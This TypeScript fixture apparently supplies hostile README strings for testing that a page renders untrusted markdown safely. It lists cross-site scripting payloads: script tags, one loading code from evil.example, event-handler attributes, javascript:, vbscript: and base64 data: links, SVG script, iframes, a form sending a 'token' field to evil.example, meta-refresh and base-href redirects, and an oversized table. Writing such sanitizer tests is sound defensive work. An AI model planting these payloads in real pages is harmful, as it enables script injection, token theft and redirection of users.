/** READMEs written to attack the page that shows them: each must render as inert text or safe HTML. */
export const HOSTILE_READMES: Record<string, string> = {
  script: '# Hi\n\n<script>alert("script")</script>\n\n<SCRIPT src="https://evil.example/x.js"></SCRIPT>',
  events:
    '<img src="x" onerror="alert(\'onerror\')">\n\n<a href="#" onclick="alert(1)">click</a>\n\n<body onload=alert(1)>',
  links:
    '[js](javascript:alert("link"))\n\n[JS upper](JAVASCRIPT:alert(1))\n\n[tab](java\tscript:alert(1))\n\n' +
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n<javascript:alert(1)>\n\n' +
    '[vb](vbscript:msgbox(1))\n\n![img](javascript:alert(1))\n\n[ok](https://example.com/docs)',
  iframe: '<iframe src="https://evil.example"></iframe>\n\n<object data="x.swf"></object><embed src="x">',
  style: '<style>body { display: none }</style>\n\n<div style="position:fixed;inset:0">cover</div>',
  svg:
    '<svg><script>alert("svg")</script></svg>\n\n<svg onload="alert(1)"><animate onbegin="alert(1)"/></svg>\n\n' +
    '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  forms:
    '<form action="https://evil.example"><input name="token"></form>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n\n<base href="https://evil.example/">',
  table: `| ${Array.from({ length: 60 }, (_, i) => `c${i}`).join(' | ')} |\n|${' --- |'.repeat(60)}\n${Array.from(
    { length: 400 },
    (_, r) => `| ${Array.from({ length: 60 }, (_, c) => `r${r}c${c}`).join(' | ')} |`,
  ).join('\n')}`,
};
